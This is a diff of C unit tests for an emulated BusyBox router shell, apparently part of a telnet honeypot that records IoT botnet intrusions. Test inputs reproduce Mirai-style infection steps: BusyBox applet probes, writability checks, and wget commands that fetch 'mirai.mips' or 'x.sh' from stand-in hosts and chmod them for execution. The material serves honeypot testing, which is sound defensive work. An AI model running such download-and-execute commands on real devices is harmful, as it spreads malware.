@@ -160,29 +160,28 @@ static const struct ev *find_ev(const struct host *h, enum sh_event ev)
 /* ------------------------------------------------------------------ */
 /* a persona built by hand                                             */
 
-static const char mounts[] =
-	"rootfs / rootfs rw 0 0\n"
-	"/dev/root / squashfs ro,relatime 0 0\n"
-	"proc /proc proc rw,relatime 0 0\n"
-	"tmpfs /dev tmpfs rw,relatime 0 0\n"
-	"tmpfs /var tmpfs rw,relatime 0 0\n"
-	"/dev/mtdblock3 /mnt/mtd jffs2 rw,relatime 0 0\n";
+static const char mounts[] = "rootfs / rootfs rw 0 0\n"
+			     "/dev/root / squashfs ro,relatime 0 0\n"
+			     "proc /proc proc rw,relatime 0 0\n"
+			     "tmpfs /dev tmpfs rw,relatime 0 0\n"
+			     "tmpfs /var tmpfs rw,relatime 0 0\n"
+			     "/dev/mtdblock3 /mnt/mtd jffs2 rw,relatime 0 0\n";
 
 static const char cpuinfo[] = "system type\t\t: MT7620\ncpu model\t\t: MIPS 24KEc V5.0\n";
-static const char meminfo[] = "MemTotal:          28616 kB\nMemFree:            6136 kB\nBuffers:            2024 kB\n";
+static const char meminfo[] =
+    "MemTotal:          28616 kB\nMemFree:            6136 kB\nBuffers:            2024 kB\n";
 
-static char *applet_names[] = {"[",    "ash",   "busybox", "cat",  "chmod", "cp",
-			       "dd",   "df",    "echo",    "free", "ftpget", "grep",  "head",
-			       "kill", "ls",    "mkdir",   "mount", "mv",   "ps",
-			       "rm",   "sh",    "sleep",   "su",   "tftp",  "touch",
-			       "uname", "wc",   "wget",    "which"};
+static char *applet_names[] = {"[",	"ash",	 "busybox", "cat",  "chmod", "cp",    "dd", "df",
+			       "echo",	"free",	 "ftpget",  "grep", "head",  "kill",  "ls", "mkdir",
+			       "mount", "mv",	 "ps",	    "rm",   "sh",    "sleep", "su", "tftp",
+			       "touch", "uname", "wc",	    "wget", "which"};
 
 static char *procs[] = {
-	"root      1524 S    init",
-	"root         0 SW<  [kthreadd]",
-	"root         0 SW<  [ksoftirqd/0]",
-	"root      1520 S    /sbin/syslogd",
-	"root      1524 S    /usr/sbin/telnetd",
+    "root      1524 S    init",
+    "root         0 SW<  [kthreadd]",
+    "root         0 SW<  [ksoftirqd/0]",
+    "root      1520 S    /sbin/syslogd",
+    "root      1524 S    /usr/sbin/telnetd",
 };
 
 struct fixture {
@@ -201,8 +200,7 @@ static void pstr(struct pstr *s, const char *v)
 	s->n = strlen(v);
 }
 
-static void file(struct persona_file *f, const char *path, const char *data,
-		 unsigned mode)
+static void file(struct persona_file *f, const char *path, const char *data, unsigned mode)
 {
 	memset(f, 0, sizeof *f);
 	f->path = (char *)path;
@@ -249,7 +247,10 @@ static void build_persona(struct fixture *fx)
 	/* a MIPS little-endian ELF-looking image */
 	for (i = 0; i < sizeof fx->elf; i++)
 		fx->elf[i] = (uint8_t)(i * 7 + 3);
-	memcpy(fx->elf, "\x7f" "ELF\x01\x01\x01", 7);
+	memcpy(fx->elf,
+	       "\x7f"
+	       "ELF\x01\x01\x01",
+	       7);
 	fx->elf[18] = 8;
 	fx->elf[19] = 0;
 	p->busybox = fx->elf;
@@ -262,10 +263,10 @@ static void build_persona(struct fixture *fx)
 	p->pid_next = 1201;
 }
 
-static struct sh *new_shell(struct fixture *fx, const struct persona *p,
-			    bool root)
+static struct sh *new_shell(struct fixture *fx, const struct persona *p, bool root)
 {
-	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, NULL, NULL, NULL};
+	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL,
+			     NULL,   NULL,  NULL,    NULL,    NULL};
 
 	fx->sh = sh_new(p, &hh, root);
 	assert_non_null(fx->sh);
@@ -275,7 +276,8 @@ static struct sh *new_shell(struct fixture *fx, const struct persona *p,
 /* A shell whose host fetches: lines wait for sh_fetch_done(). */
 static struct sh *new_fetch_shell(struct fixture *fx)
 {
-	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, h_fetch, NULL, NULL};
+	struct sh_host hh = {&fx->h,  h_out, h_pause, h_event, h_now, NULL,
+			     h_fetch, NULL,  NULL,    NULL,    NULL};
 
 	fx->h.fetch_rc = 1;
 	fx->sh = sh_new(&fx->p, &hh, true);
@@ -352,14 +354,19 @@ static void t_mounts_nippon(void **state)
 	char want[1024];
 
 	new_shell(fx, &fx->p, true);
-	snprintf(want, sizeof want, "%sECCHI: applet not found\n[root@router /]# ",
-		 mounts);
+	snprintf(want, sizeof want, "%sECCHI: applet not found\n[root@router /]# ", mounts);
 	RUN_EQ(fx, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", want);
-	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon",
-	       "kami/dev\n[root@router /]# ");
-	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; cat /var/.nippon; rm /var/.nippon",
-	       "kami/var\n[root@router /]# ");
-	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/mnt/mtd' > /mnt/mtd/.nippon; /bin/busybox cat /mnt/mtd/.nippon; /bin/busybox rm /mnt/mtd/.nippon",
+	RUN_EQ(
+	    fx,
+	    "echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; cat /dev/.nippon; rm /dev/.nippon",
+	    "kami/dev\n[root@router /]# ");
+	RUN_EQ(
+	    fx,
+	    "echo -e '\\x6b\\x61\\x6d\\x69/var' > /var/.nippon; cat /var/.nippon; rm /var/.nippon",
+	    "kami/var\n[root@router /]# ");
+	RUN_EQ(fx,
+	       "echo -e '\\x6b\\x61\\x6d\\x69/mnt/mtd' > /mnt/mtd/.nippon; /bin/busybox cat "
+	       "/mnt/mtd/.nippon; /bin/busybox rm /mnt/mtd/.nippon",
 	       "kami/mnt/mtd\n[root@router /]# ");
 	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/' > //.nippon; cat //.nippon; rm //.nippon",
 	       "-sh: can't create //.nippon: Read-only file system\n"
@@ -368,7 +375,8 @@ static void t_mounts_nippon(void **state)
 	       "[root@router /]# ");
 	RUN_EQ(fx, "echo -e '\\x6b\\x61\\x6d\\x69/proc' > /proc/.nippon",
 	       "-sh: can't create /proc/.nippon: nonexistent directory\n[root@router /]# ");
-	RUN_EQ(fx, "echo x > /etc/passwd", "-sh: can't create /etc/passwd: Read-only file system\n[root@router /]# ");
+	RUN_EQ(fx, "echo x > /etc/passwd",
+	       "-sh: can't create /etc/passwd: Read-only file system\n[root@router /]# ");
 	run(fx, "mount");
 	assert_memory_equal(fx->h.out.p, mounts, strlen(mounts));
 	/* /tmp is a symlink into /var */
@@ -387,7 +395,8 @@ static void t_cp_chmod_cat_echo(void **state)
 	       "[root@router /var]# ");
 	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
 	RUN_EQ(fx, "ls -l dvrHelper",
-	       "-rwxrwxrwx    1 root     root            0 Nov 17 23:13 dvrHelper\n[root@router /var]# ");
+	       "-rwxrwxrwx    1 root     root             0 Nov 17 23:13 dvrHelper\n[root@router "
+	       "/var]# ");
 	out = run(fx, "/bin/busybox cat /bin/echo; /bin/busybox ECCHI");
 	assert_int_equal(fx->h.out.len, sizeof fx->elf + 24 + plen);
 	assert_memory_equal(out, fx->elf, sizeof fx->elf);
@@ -401,7 +410,8 @@ static void t_cp_chmod_cat_echo(void **state)
 	assert_memory_equal(out, fx->elf, 52);
 	assert_string_equal(out + 52, "1+0 records in\n1+0 records out\n[root@router /var]# ");
 	/* ECHODONE */
-	RUN_EQ(fx, "echo -en '\\x41\\x42' > .x && echo -en '\\x45\\x43\\x48\\x4f\\x44\\x4f\\x4e\\x45'",
+	RUN_EQ(fx,
+	       "echo -en '\\x41\\x42' > .x && echo -en '\\x45\\x43\\x48\\x4f\\x44\\x4f\\x4e\\x45'",
 	       "ECHODONE[root@router /var]# ");
 	RUN_EQ(fx, "echo 'abc\\c'", "abc\\c\n[root@router /var]# ");
 	RUN_EQ(fx, "echo -e 'abc\\cdef'; echo", "abc\n[root@router /var]# ");
@@ -468,7 +478,10 @@ static void t_exec_elf(void **state)
 	run(fx, "cd /var; cp /bin/busybox b; chmod 777 b");
 	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0); /* our own image */
 	RUN_EQ(fx, "./b; echo $?", "0\n[root@router /var]# ");
-	RUN_EQ(fx, "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\x28' > a; chmod +x a; ./a",
+	RUN_EQ(fx,
+	       "echo -ne "
+	       "'\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\"
+	       "x00\\x02\\x00\\x28' > a; chmod +x a; ./a",
 	       /* another CPU: ENOEXEC, and ash reads the file as a script
 		* (NULs deleted). Real ash 1.35 (build/oracle) says "./a: line 1:
 		* syntax error: unexpected end of file (expecting ")")"; the
@@ -486,12 +499,14 @@ static void t_while_read_dd(void **state)
 
 	new_shell(fx, &fx->p, true);
 	run(fx, "cd /var");
-	RUN_EQ(fx, "printf; echo -ne 'abc\\ndef\\n' > .s", "-sh: printf: not found\n[root@router /var]# ");
+	RUN_EQ(fx, "printf; echo -ne 'abc\\ndef\\n' > .s",
+	       "-sh: printf: not found\n[root@router /var]# ");
 	RUN_EQ(fx, "while read i; do echo $i; done < .s", "abc\ndef\n[root@router /var]# ");
 	RUN_EQ(fx, "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
 	       "abc\ndef\n0+1 records in\n0+1 records out\n[root@router /var]# ");
 	RUN_EQ(fx, "dd if=.nope bs=22 count=1 || while read i; do echo \"<$i>\"; done < .s",
-	       "dd: can't open '.nope': No such file or directory\n<abc>\n<def>\n[root@router /var]# ");
+	       "dd: can't open '.nope': No such file or directory\n<abc>\n<def>\n[root@router "
+	       "/var]# ");
 	RUN_EQ(fx, "cat .s | grep def; cat .s | wc -l; wc -c .s",
 	       "def\n2\n        8 .s\n[root@router /var]# ");
 	RUN_EQ(fx, "head -n 1 .s; head -c 2 .s; echo", "abc\nab\n[root@router /var]# ");
@@ -511,8 +526,7 @@ static void t_andor_status(void **state)
 
 	new_shell(fx, &fx->p, true);
 	RUN_EQ(fx, "false || echo a && echo b", "a\nb\n[root@router /]# ");
-	RUN_EQ(fx, "nosuch && echo x || echo y",
-	       "-sh: nosuch: not found\ny\n[root@router /]# ");
+	RUN_EQ(fx, "nosuch && echo x || echo y", "-sh: nosuch: not found\ny\n[root@router /]# ");
 	RUN_EQ(fx, "false; echo $?", "1\n[root@router /]# ");
 	RUN_EQ(fx, "nosuch 2>/dev/null; echo $?", "127\n[root@router /]# ");
 	RUN_EQ(fx, "cat /nope 2>&1 | wc -l", "1\n[root@router /]# ");
@@ -523,8 +537,10 @@ static void t_andor_status(void **state)
 	RUN_EQ(fx, "echo x; done", "-sh: syntax error: unexpected \"done\"\n[root@router /]# ");
 	RUN_EQ(fx, "ls /var", "tmp\n[root@router /]# ");
 	RUN_EQ(fx, "cd /var && mkdir d && cd d && pwd", "/var/d\n[root@router /var/d]# ");
-	RUN_EQ(fx, "cd /var; touch a b c; ls; echo *", "a    b    c    d    tmp\na b c d tmp\n[root@router /var]# ");
-	RUN_EQ(fx, "which cat wget nosuch; echo $?", "/bin/cat\n/bin/wget\n1\n[root@router /var]# ");
+	RUN_EQ(fx, "cd /var; touch a b c; ls; echo *",
+	       "a    b    c    d    tmp\na b c d tmp\n[root@router /var]# ");
+	RUN_EQ(fx, "which cat wget nosuch; echo $?",
+	       "/bin/cat\n/bin/wget\n1\n[root@router /var]# ");
 }
 
 /* Issue 12: parse_*() may realloc ps->nodes; a compound's body must survive
@@ -536,13 +552,15 @@ static void t_nodes_grow(void **state)
 	struct fixture *fx = *state;
 
 	new_shell(fx, &fx->p, true);
-	RUN_EQ(fx, "if false; then :; elif false; then :; elif false; then :; "
-		   "elif false; then :; elif false; then :; elif false; then :; "
-		   "elif true; then echo X; fi",
+	RUN_EQ(fx,
+	       "if false; then :; elif false; then :; elif false; then :; "
+	       "elif false; then :; elif false; then :; elif false; then :; "
+	       "elif true; then echo X; fi",
 	       "X\n[root@router /]# ");
-	RUN_EQ(fx, "echo $(if false; then :; elif false; then :; elif false; then :; "
-		   "elif false; then :; elif false; then :; elif false; then :; "
-		   "elif true; then echo Y; fi)",
+	RUN_EQ(fx,
+	       "echo $(if false; then :; elif false; then :; elif false; then :; "
+	       "elif false; then :; elif false; then :; elif false; then :; "
+	       "elif true; then echo Y; fi)",
 	       "Y\n[root@router /]# ");
 	RUN_EQ(fx, "( : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; echo S )",
 	       "S\n[root@router /]# ");
@@ -550,9 +568,13 @@ static void t_nodes_grow(void **state)
 	       "G\n[root@router /]# ");
 	RUN_EQ(fx, "for i in 1 2; do : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; : ; echo $i; done",
 	       "1\n2\n[root@router /]# ");
-	RUN_EQ(fx, "while false; do :; done; true && : && : && : && : && : && : && : && : && : && : && echo A",
+	RUN_EQ(fx,
+	       "while false; do :; done; true && : && : && : && : && : && : && : && : && : && : && "
+	       "echo A",
 	       "A\n[root@router /]# ");
-	RUN_EQ(fx, "echo P | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat",
+	RUN_EQ(fx,
+	       "echo P | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | cat | "
+	       "cat | cat | cat | cat | cat",
 	       "P\n[root@router /]# ");
 }
 
@@ -563,7 +585,8 @@ static void t_budget_memory(void **state)
 {
 	struct fixture *fx = *state;
 	struct acct global, mem;
-	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, NULL, NULL, &mem};
+	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL,
+			     NULL,   NULL,  &mem,    NULL,    NULL};
 	static uint8_t big[600 * 1024], word[16 * 1024];
 	char line[4096];
 	const char *out;
@@ -669,13 +692,16 @@ static void t_fetch(void **state)
 	new_shell(fx, &fx->p, true);
 	run(fx, "cd /var");
 	out = run(fx, "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI");
-	assert_non_null(strstr(out, "BusyBox v1.16.1 (2013-07-30 10:31:49 CST) multi-call binary.\n\nUsage: wget "));
+	assert_non_null(strstr(
+	    out, "BusyBox v1.16.1 (2013-07-30 10:31:49 CST) multi-call binary.\n\nUsage: wget "));
 	assert_non_null(strstr(out, "Usage: tftp "));
 	assert_null(strstr(out, "wget: applet not found"));
 	assert_null(strstr(out, "tftp: applet not found"));
 	assert_non_null(strstr(out, "ECCHI: applet not found\n"));
 	host_clear(&fx->h);
-	RUN_EQ(fx, "/bin/busybox wget http://1.2.3.4:8080/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
+	RUN_EQ(fx,
+	       "/bin/busybox wget http://1.2.3.4:8080/bins/mirai.mips -O - > dvrHelper; "
+	       "/bin/busybox chmod 777 dvrHelper",
 	       "Connecting to 1.2.3.4:8080 (1.2.3.4:8080)\n"
 	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n"
 	       "[root@router /var]# ");
@@ -686,7 +712,8 @@ static void t_fetch(void **state)
 	assert_string_equal(e->outfile, "/var/dvrHelper");
 	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
 	host_clear(&fx->h);
-	RUN_EQ(fx, "wget http://evil.example/x.sh", "wget: bad address 'evil.example'\n[root@router /var]# ");
+	RUN_EQ(fx, "wget http://evil.example/x.sh",
+	       "wget: bad address 'evil.example'\n[root@router /var]# ");
 	assert_string_equal(find_ev(&fx->h, SH_EV_FETCH)->outfile, "/var/x.sh");
 	host_clear(&fx->h);
 	/* no fetcher: a device with no route (xsendto's perror) */
@@ -730,8 +757,8 @@ static const char *done_ok(struct fixture *fx, const char *data, unsigned ms)
 	return fx->h.out.p ? fx->h.out.p : "";
 }
 
-static const char *done_fail(struct fixture *fx, const char *reason, const char *detail,
-			     int code, bool connected)
+static const char *done_fail(struct fixture *fx, const char *reason, const char *detail, int code,
+			     bool connected)
 {
 	struct sh_fetch_result r;
 
@@ -751,7 +778,8 @@ static const char *done_fail(struct fixture *fx, const char *reason, const char 
 
 #define P "[root@router /var]# "
 #define METER_0(name) "\r" name "   0% |                               |     0  --:--:-- ETA"
-#define METER_100(name, size) "\r" name " 100% |*******************************|" size "  --:--:-- ETA\n"
+#define METER_100(name, size)                                                                      \
+	"\r" name " 100% |*******************************|" size "  --:--:-- ETA\n"
 
 /* `wget -qO- URL | sh`: the downloaded script runs in the emulated shell */
 static void t_fetch_pipe_sh(void **state)
@@ -784,13 +812,12 @@ static void t_fetch_wait(void **state)
 	assert_null(find_ev(&fx->h, SH_EV_FETCH));
 	/* typed while waiting: kept, run afterwards */
 	RUN_EQ(fx, "echo queued; /bin/busybox ECCHI", "");
-	assert_string_equal(done_ok(fx, "hello world\n", 5),
-			    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
-			    METER_0("y                   ")
-			    METER_100("y                   ", "    12")
-			    "-rwxrwxrwx    1 root     root           12 Nov 17 23:13 y\n"
-			    "hello world\n" P
-			    "queued\nECCHI: applet not found\n" P);
+	assert_string_equal(
+	    done_ok(fx, "hello world\n", 5),
+	    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n" METER_0("y                   ")
+		METER_100("y                   ",
+			  "    12") "-rwxrwxrwx    1 root     root            12 Nov 17 23:13 y\n"
+				    "hello world\n" P "queued\nECCHI: applet not found\n" P);
 	assert_false(sh_waiting(fx->sh));
 	/* the fetcher stored the file: chmod and the run capture nothing */
 	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
@@ -805,9 +832,10 @@ static void t_fetch_wait(void **state)
 			    "failed\n" P);
 	RUN_EQ(fx, "ls nope", "ls: nope: No such file or directory\n" P);
 	RUN_EQ(fx, "wget http://127.0.0.1:1/x", "");
-	assert_string_equal(done_fail(fx, "connect", "Connection refused", 0, false),
-			    "Connecting to 127.0.0.1:1 (127.0.0.1:1)\n"
-			    "wget: can't connect to remote host (127.0.0.1): Connection refused\n" P);
+	assert_string_equal(
+	    done_fail(fx, "connect", "Connection refused", 0, false),
+	    "Connecting to 127.0.0.1:1 (127.0.0.1:1)\n"
+	    "wget: can't connect to remote host (127.0.0.1): Connection refused\n" P);
 	RUN_EQ(fx, "wget -q http://nosuch.example/x; echo $?", "");
 	assert_string_equal(done_fail(fx, "dns", "no address", 0, false),
 			    "wget: bad address 'nosuch.example'\n1\n" P);
@@ -816,21 +844,30 @@ static void t_fetch_wait(void **state)
 			    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
 			    "wget: download timed out\n" P);
 	RUN_EQ(fx, "wget http://127.0.0.1:8080/slow", "");
-	assert_string_equal(done_fail(fx, "timeout", NULL, 0, false),
-			    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
-			    "wget: can't connect to remote host (127.0.0.1): Connection timed out\n" P);
+	assert_string_equal(
+	    done_fail(fx, "timeout", NULL, 0, false),
+	    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
+	    "wget: can't connect to remote host (127.0.0.1): Connection timed out\n" P);
 	host_clear(&fx->h);
 
 	/* Mirai: -O - into a redirection */
-	RUN_EQ(fx, "/bin/busybox wget http://127.0.0.1:8080/bins/mirai.mips -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
+	RUN_EQ(fx,
+	       "/bin/busybox wget http://127.0.0.1:8080/bins/mirai.mips -O - > dvrHelper; "
+	       "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
 	       "");
 	assert_string_equal(fx->h.f_outfile, "/var/dvrHelper");
-	assert_string_equal(done_ok(fx, "\x7f" "ELFbody", 1500),
-			    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n"
-			    METER_0("-                   ")
-			    "\r-                    100% |*******************************|     8  00:00:00 ETA\n"
-			    "ECCHI: applet not found\n" P);
-	RUN_EQ(fx, "cat dvrHelper", "\x7f" "ELFbody" P);
+	assert_string_equal(
+	    done_ok(fx,
+		    "\x7f"
+		    "ELFbody",
+		    1500),
+	    "Connecting to 127.0.0.1:8080 (127.0.0.1:8080)\n" METER_0(
+		"-                   ") "\r-                    100% "
+					"|*******************************|     8  00:00:00 ETA\n"
+					"ECCHI: applet not found\n" P);
+	RUN_EQ(fx, "cat dvrHelper",
+	       "\x7f"
+	       "ELFbody" P);
 	assert_int_equal(count_ev(&fx->h, SH_EV_CAPTURE), 0);
 	host_clear(&fx->h);
 
@@ -859,6 +896,51 @@ static void t_fetch_wait(void **state)
 
 	/* still waiting when the session ends: freed by teardown */
 	RUN_EQ(fx, "", "");
+}
+
+static int cancels;
+
+static void h_fetch_cancel(void *ctx)
+{
+	(void)ctx;
+	cancels++;
+}
+
+/* Ctrl-C (sh_interrupt) while a line waits for its download: the host is
+ * told to drop the download, the rest of the line and what was typed
+ * meanwhile are gone, a new prompt; a late result changes nothing.
+ * Ctrl-D (sh_eof) leaves the level: the login shell ends the session. */
+static void t_interrupt_and_eof(void **state)
+{
+	struct fixture *fx = *state;
+	struct sh_host hh = {&fx->h,  h_out, h_pause, h_event,	      h_now, NULL,
+			     h_fetch, NULL,  NULL,    h_fetch_cancel, NULL};
+
+	fx->h.fetch_rc = 1;
+	fx->sh = sh_new(&fx->p, &hh, true);
+	assert_non_null(fx->sh);
+	run(fx, "cd /var");
+	cancels = 0;
+	RUN_EQ(fx, "wget http://127.0.0.1:8080/x -O y; echo rest", "");
+	RUN_EQ(fx, "echo typed", "");
+	assert_true(sh_waiting(fx->sh));
+	buf_reset(&fx->h.out);
+	sh_interrupt(fx->sh);
+	assert_string_equal(fx->h.out.p, P);
+	assert_int_equal(cancels, 1);
+	assert_false(sh_waiting(fx->sh));
+	assert_string_equal(done_ok(fx, "late\n", 5), ""); /* ignored */
+	RUN_EQ(fx, "ls y; echo $?", "ls: y: No such file or directory\n1\n" P);
+	/* an unfinished construct is dropped too */
+	RUN_EQ(fx, "echo 'open", "> ");
+	buf_reset(&fx->h.out);
+	sh_interrupt(fx->sh);
+	assert_string_equal(fx->h.out.p, P);
+	RUN_EQ(fx, "echo x", "x\n" P); /* not inside the quote any more */
+	buf_reset(&fx->h.out);
+	sh_eof(fx->sh);
+	assert_string_equal(fx->h.out.p, "\n");
+	assert_int_equal(sh_mode(fx->sh), SH_MODE_DONE);
 }
 
 static void t_fetch_wait_more(void **state)
@@ -906,7 +988,10 @@ static void t_fetch_wait_more(void **state)
 	/* the queue is bounded; an end while waiting leaks nothing */
 	RUN_EQ(fx, "wget -q http://127.0.0.1/c", "");
 	for (i = 0; i < 100; i++)
-		RUN_EQ(fx, "echo 0123456789012345678901234567890123456789012345678901234567890123456789", "");
+		RUN_EQ(
+		    fx,
+		    "echo 0123456789012345678901234567890123456789012345678901234567890123456789",
+		    "");
 	sh_end(fx->sh);
 	/* not waiting: ignored */
 	buf_reset(&fx->h.out);
@@ -936,7 +1021,8 @@ static void t_fetch_url(void **state)
 	RUN_EQ(fx, "wget http://1.2.3.4:000080/f",
 	       "Connecting to 1.2.3.4:000080 (1.2.3.4:80)\n"
 	       "wget: can't connect to remote host (1.2.3.4): Network is unreachable\n" P);
-	RUN_EQ(fx, "wget http://1.2.3.4:0/f", "wget: not an http or ftp url: http://1.2.3.4:0/f\n" P);
+	RUN_EQ(fx, "wget http://1.2.3.4:0/f",
+	       "wget: not an http or ftp url: http://1.2.3.4:0/f\n" P);
 	RUN_EQ(fx, "wget http://1.2.3.4:65536/f",
 	       "wget: not an http or ftp url: http://1.2.3.4:65536/f\n" P);
 	RUN_EQ(fx, "wget http://1.2.3.4:/f", "wget: not an http or ftp url: http://1.2.3.4:/f\n" P);
@@ -998,7 +1084,8 @@ static void t_inject(void **state)
 /* A shell drawing on pool (NULL: the default one). */
 static struct sh *new_pool_shell(struct fixture *fx, struct vfs_pool *pool)
 {
-	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL, NULL, pool, NULL};
+	struct sh_host hh = {&fx->h, h_out, h_pause, h_event, h_now, NULL,
+			     NULL,   pool,  NULL,    NULL,    NULL};
 	struct sh *sh = sh_new(&fx->p, &hh, true);
 
 	assert_non_null(sh);
@@ -1017,14 +1104,13 @@ static const char *run_in(struct fixture *fx, struct sh *sh, const char *line)
  * past them fails as on a full flash, and the default pool is untouched. */
 static void t_fs_kb(void **state)
 {
-	static const char *const conf =
-		"config tanuki 'main'\n"
-		"\toption store '/nonexistent'\n"
-		"\toption fs_kb '16'\n"
-		"\toption fs_total_kb '64'\n"
-		"config listener 't'\n"
-		"\toption proto 'telnet'\n"
-		"\toption port '2323'\n";
+	static const char *const conf = "config tanuki 'main'\n"
+					"\toption store '/nonexistent'\n"
+					"\toption fs_kb '16'\n"
+					"\toption fs_total_kb '64'\n"
+					"config listener 't'\n"
+					"\toption proto 'telnet'\n"
+					"\toption port '2323'\n";
 	/* 4000 bytes, then four copies of them: 20000 bytes in all */
 	static const char *const fill = "cd /var; cat a a a a > b";
 	struct fixture *fx = *state;
@@ -1109,11 +1195,13 @@ static void t_caps(void **state)
 	memset(line + 5, 'A', 4000);
 	snprintf(line + 4005, sizeof line - 4005, " > /var/a");
 	run(fx, line);
-	out = run(fx, "cd /var; cat a a a a a a a a > b; cat b b b b b b b b > c; cat c c c c c c c c > d; echo $?");
+	out = run(fx, "cd /var; cat a a a a a a a a > b; cat b b b b b b b b > c; cat c c c c c c "
+		      "c c > d; echo $?");
 	assert_non_null(strstr(out, "No space left on device"));
 	assert_true(sh_fs_default()->total <= CAP_FS_SESSION);
 	/* many files: the node cap */
-	out = run(fx, "for a in 0 1 2 3 4 5 6 7 8 9; do for b in 0 1 2 3 4 5 6 7 8 9; do for c in 0 1 2 3 4 5 6 7; do touch f$a$b$c; done; done; done");
+	out = run(fx, "for a in 0 1 2 3 4 5 6 7 8 9; do for b in 0 1 2 3 4 5 6 7 8 9; do for c in "
+		      "0 1 2 3 4 5 6 7; do touch f$a$b$c; done; done; done");
 	assert_non_null(strstr(out, "No space left on device"));
 	/* runaway loops end */
 	out = run(fx, "while true; do echo y; done");
@@ -1121,7 +1209,8 @@ static void t_caps(void **state)
 	out = run(fx, "X='$(eval $X)'; eval $X; echo done");
 	assert_non_null(strstr(out, "done\n"));
 	/* deep nesting */
-	out = run(fx, "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo deep))))))))))");
+	out = run(fx, "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo "
+		      "deep))))))))))");
 	assert_non_null(out);
 	/* the session can still work */
 	RUN_EQ(fx, "rm -rf /var/*; echo ok > /var/z; cat /var/z", "ok\n[root@router /var]# ");
@@ -1148,18 +1237,43 @@ static void t_su_ps_kill(void **state)
 				    "    2 root         0 SW<  [kthreadd]\n"
 				    "    3 root         0 SW<  [ksoftirqd/0]\n"
 				    "  400 root      1520 S    /sbin/syslogd\n"));
-	assert_non_null(strstr(out, " 1201 admin     1532 S    -sh\n"));
+	{
+		/* the login shell's pid: the unit's counter (pid_next and on),
+		 * the one $$ gives */
+		char row[64];
+		unsigned long me = strtoul(run(fx, "echo $$"), NULL, 10);
+
+		assert_true(me >= 1201 && me < 32000);
+		snprintf(row, sizeof row, " %lu admin     1532 S    -sh\n", me);
+		out = run(fx, "ps");
+		assert_non_null(strstr(out, row));
+	}
 	RUN_EQ(fx, "kill -9 400; kill 99999", "kill: can't kill pid 99999: No such process\n$ ");
 	out = run(fx, "ps");
 	assert_null(strstr(out, "syslogd"));
-	RUN_EQ(fx, "uname -a", "Linux router 2.6.36 #1 Fri Jan 1 00:00:00 CST 2016 mips unknown\n$ ");
+	RUN_EQ(fx, "uname -a",
+	       "Linux router 2.6.36 #1 Fri Jan 1 00:00:00 CST 2016 mips unknown\n$ ");
 	RUN_EQ(fx, "uname -m", "mips\n$ ");
-	RUN_EQ(fx, "free",
-	       "              total         used         free       shared      buffers\n"
-	       "  Mem:        28616        22480         6136            0         2024\n"
-	       " Swap:            0            0            0\n"
-	       "Total:        28616        22480         6136\n$ ");
-	RUN_EQ(fx, "cat /proc/uptime", "262800.00 236520.00\n$ ");
+	{
+		/* memory moves around the image's figures (procfs.c); the
+		 * columns add up */
+		unsigned long t, u, f, sh_, bu;
+
+		out = run(fx, "free");
+		assert_non_null(strstr(
+		    out,
+		    "              total         used         free       shared      buffers\n"));
+		assert_int_equal(sscanf(strstr(out, "  Mem:"), "  Mem: %lu %lu %lu %lu %lu", &t, &u,
+					&f, &sh_, &bu),
+				 5);
+		assert_int_equal(t, 28616);
+		assert_int_equal(u + f, t);
+		assert_true(f > 6136 - 600 && f < 6136 + 600);
+		assert_true(bu >= 2024 && bu < 2024 + 24);
+	}
+	out = run(fx, "cat /proc/uptime");
+	assert_memory_equal(out, "262800.", 7); /* boot_time is 3 days before now */
+	assert_non_null(strstr(out, " 252288."));
 	RUN_EQ(fx, "sleep 100", "$ ");
 	assert_int_equal(fx->h.pauses[fx->h.npause - 1], CAP_SLEEP_MS);
 }
@@ -1222,14 +1336,19 @@ static void t_real_persona(void **state)
 	assert_non_null(strstr(out, "ECCHI: applet not found\n"));
 	out = run(fx, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI");
 	assert_non_null(strstr(out, " rw"));
